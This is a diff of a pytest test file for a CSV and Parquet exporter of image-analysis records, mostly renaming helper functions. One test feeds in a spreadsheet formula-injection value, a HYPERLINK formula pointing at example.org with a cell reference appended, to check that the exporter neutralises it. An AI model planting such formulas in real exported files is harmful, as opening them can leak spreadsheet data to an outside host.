@@ -7,26 +7,37 @@ import tracemalloc
 from pathlib import Path
 
 import pytest
-from forms_made import box, caption, detected, failed, lines, pointed, record, reply
+from make_batch_records import (
+    box,
+    caption_answer,
+    detect_answer,
+    failed,
+    point_answer,
+    query_answer,
+    record,
+    write_records,
+)
 
 from mdtool.errors import InputError, OutputError, UsageError
 from mdtool.exports import parquet_table
 from mdtool.exports.csv_table import write_csv
 from mdtool.exports.parquet_table import write_parquet
 from mdtool.exports.rows import COLUMNS
-from mdtool.records.batch import Tally
+from mdtool.records.batch import ExportCounts
 
 LONG = 'He said "hi",\nthen left; 猫 '
 
 
 def all_kinds(path: Path) -> Path:
-    reasoned = reply("Why?", "So") | {"reasoning": "It is so.", "grounding": []}
-    return lines(
+    reasoned = query_answer("Why?", "So") | {"reasoning": "It is so.", "grounding": []}
+    return write_records(
         path,
-        record("a.jpg", caption(LONG), reasoned),
+        record("a.jpg", caption_answer(LONG), reasoned),
         failed("b.jpg"),
-        record("c.jpg", detected("face", box("face", 0.1, 0.2, 0.3, 0.4, score=0.75), box("nose", -0.1, 0, 1, 1.2))),
-        record("d.mp4", detected("cat", complete=False), pointed("eye", (0.5, 0.25)), time=1.5),
+        record(
+            "c.jpg", detect_answer("face", box("face", 0.1, 0.2, 0.3, 0.4, score=0.75), box("nose", -0.1, 0, 1, 1.2))
+        ),
+        record("d.mp4", detect_answer("cat", complete=False), point_answer("eye", (0.5, 0.25)), time=1.5),
     )
 
 
@@ -37,7 +48,7 @@ def read_csv(path: Path) -> list[dict[str, str]]:
 
 def test_csv_has_a_row_for_each_answer_or_box(tmp_path: Path) -> None:
     target = tmp_path / "out.csv"
-    assert write_csv(all_kinds(tmp_path / "in.jsonl"), target, overwrite=False) == Tally(written=3, failed=1)
+    assert write_csv(all_kinds(tmp_path / "in.jsonl"), target, overwrite=False) == ExportCounts(written=3, failed=1)
     rows = read_csv(target)
     assert tuple(rows[0]) == COLUMNS
     told = [(row["input"], row["kind"], row["asked"], row["text"], row["label"]) for row in rows]
@@ -66,7 +77,9 @@ def test_csv_has_a_row_for_each_answer_or_box(tmp_path: Path) -> None:
 @pytest.mark.parametrize("start", [*"=+-@＝＋－＠", "\t", "\r", "\n"])
 def test_csv_has_no_formulas(tmp_path: Path, start: str) -> None:
     text = start + 'HYPERLINK("http://example.org/"&A1)'
-    source = lines(tmp_path / "in.jsonl", record(text, caption(text), detected(text, box(text, -1, 0, 1, 1))))
+    source = write_records(
+        tmp_path / "in.jsonl", record(text, caption_answer(text), detect_answer(text, box(text, -1, 0, 1, 1)))
+    )
     write_csv(source, tmp_path / "out.csv", overwrite=False)
     for row in read_csv(tmp_path / "out.csv"):
         assert {row["input"], row["text"] or row["label"]} == {"'" + text}
@@ -76,7 +89,7 @@ def test_csv_has_no_formulas(tmp_path: Path, start: str) -> None:
 def test_parquet_has_the_same_rows_with_types(tmp_path: Path) -> None:
     parquet = pytest.importorskip("pyarrow.parquet")
     target = tmp_path / "out.parquet"
-    assert write_parquet(all_kinds(tmp_path / "in.jsonl"), target, overwrite=False) == Tally(written=3, failed=1)
+    assert write_parquet(all_kinds(tmp_path / "in.jsonl"), target, overwrite=False) == ExportCounts(written=3, failed=1)
     table = parquet.read_table(target)
     assert table.column_names == list(COLUMNS)
     rows = table.to_pylist()
@@ -91,15 +104,15 @@ def test_parquet_has_the_same_rows_with_types(tmp_path: Path) -> None:
 
 def test_parquet_is_written_in_groups(tmp_path: Path) -> None:
     parquet = pytest.importorskip("pyarrow.parquet")
-    many = (record(f"{number}.jpg", caption("a cat")) for number in range(parquet_table.ROWS + 5))
-    source = lines(tmp_path / "in.jsonl", *many)
+    many = (record(f"{number}.jpg", caption_answer("a cat")) for number in range(parquet_table.ROWS + 5))
+    source = write_records(tmp_path / "in.jsonl", *many)
     write_parquet(source, tmp_path / "out.parquet", overwrite=False)
     told = parquet.ParquetFile(tmp_path / "out.parquet").metadata
     assert [told.row_group(number).num_rows for number in range(told.num_row_groups)] == [parquet_table.ROWS, 5]
 
 
 def test_names_that_are_no_text(tmp_path: Path) -> None:
-    source = lines(tmp_path / "in.jsonl", record("a\udc80.jpg", caption("a cat")))
+    source = write_records(tmp_path / "in.jsonl", record("a\udc80.jpg", caption_answer("a cat")))
     write_csv(source, tmp_path / "out.csv", overwrite=False)
     assert read_csv(tmp_path / "out.csv")[0]["input"] == "a\\udc80.jpg"
     parquet = pytest.importorskip("pyarrow.parquet")
@@ -108,8 +121,8 @@ def test_names_that_are_no_text(tmp_path: Path) -> None:
 
 
 def test_no_records(tmp_path: Path) -> None:
-    source = lines(tmp_path / "in.jsonl")
-    assert write_csv(source, tmp_path / "out.csv", overwrite=False) == Tally()
+    source = write_records(tmp_path / "in.jsonl")
+    assert write_csv(source, tmp_path / "out.csv", overwrite=False) == ExportCounts()
     assert read_csv(tmp_path / "out.csv") == []
     parquet = pytest.importorskip("pyarrow.parquet")
     write_parquet(source, tmp_path / "out.parquet", overwrite=False)
@@ -123,7 +136,9 @@ def test_without_pyarrow_it_is_said_what_to_install(tmp_path: Path, monkeypatch:
 
 
 def test_a_table_does_not_grow_in_memory(tmp_path: Path) -> None:
-    source = lines(tmp_path / "in.jsonl", *(record(f"{number}.jpg", caption("a cat " * 20)) for number in range(4000)))
+    source = write_records(
+        tmp_path / "in.jsonl", *(record(f"{number}.jpg", caption_answer("a cat " * 20)) for number in range(4000))
+    )
     tracemalloc.start()
     write_csv(source, tmp_path / "out.csv", overwrite=False)
     most = tracemalloc.get_traced_memory()[1]
@@ -132,9 +147,11 @@ def test_a_table_does_not_grow_in_memory(tmp_path: Path) -> None:
 
 
 def test_a_last_line_that_breaks_off_is_passed_over(tmp_path: Path) -> None:
-    source = lines(tmp_path / "in.jsonl", record("a.jpg", caption("a cat")), record("b.jpg", caption("a dog")))
+    source = write_records(
+        tmp_path / "in.jsonl", record("a.jpg", caption_answer("a cat")), record("b.jpg", caption_answer("a dog"))
+    )
     source.write_bytes(source.read_bytes()[:-20])
-    assert write_csv(source, tmp_path / "out.csv", overwrite=False) == Tally(written=1)
+    assert write_csv(source, tmp_path / "out.csv", overwrite=False) == ExportCounts(written=1)
 
 
 @pytest.mark.parametrize(
@@ -145,14 +162,14 @@ def test_a_last_line_that_breaks_off_is_passed_over(tmp_path: Path) -> None:
         ("[" * 100_000, "is no record"),
         ('{"schema": "mdtool.answers/1"}', "this version reads 'mdtool.batch/1'"),
         (json.dumps(record("a", {"prompt": "x"})), "caption"),
-        (json.dumps(record("a", caption("a"), width=0)), "width can't be 0"),
-        (json.dumps(record("a", detected("x", box("x", 0, 0, 1, float("nan"))))), "y_max can't be nan"),
-        (json.dumps(record("a", detected("x", {"label": "x"}))), "x_min"),
-        (json.dumps(record("a", caption("a"), model=3)), "model can't be 3"),
+        (json.dumps(record("a", caption_answer("a"), width=0)), "width can't be 0"),
+        (json.dumps(record("a", detect_answer("x", box("x", 0, 0, 1, float("nan"))))), "y_max can't be nan"),
+        (json.dumps(record("a", detect_answer("x", {"label": "x"}))), "x_min"),
+        (json.dumps(record("a", caption_answer("a"), model=3)), "model can't be 3"),
     ],
 )
 def test_what_is_no_record_is_told_with_its_line(tmp_path: Path, line: str, said: str) -> None:
-    source = lines(tmp_path / "in.jsonl", record("a.jpg", caption("a cat")))
+    source = write_records(tmp_path / "in.jsonl", record("a.jpg", caption_answer("a cat")))
     source.write_text(source.read_text() + line + "\n")
     with pytest.raises(InputError, match=said) as caught:
         write_csv(source, tmp_path / "out.csv", overwrite=False)
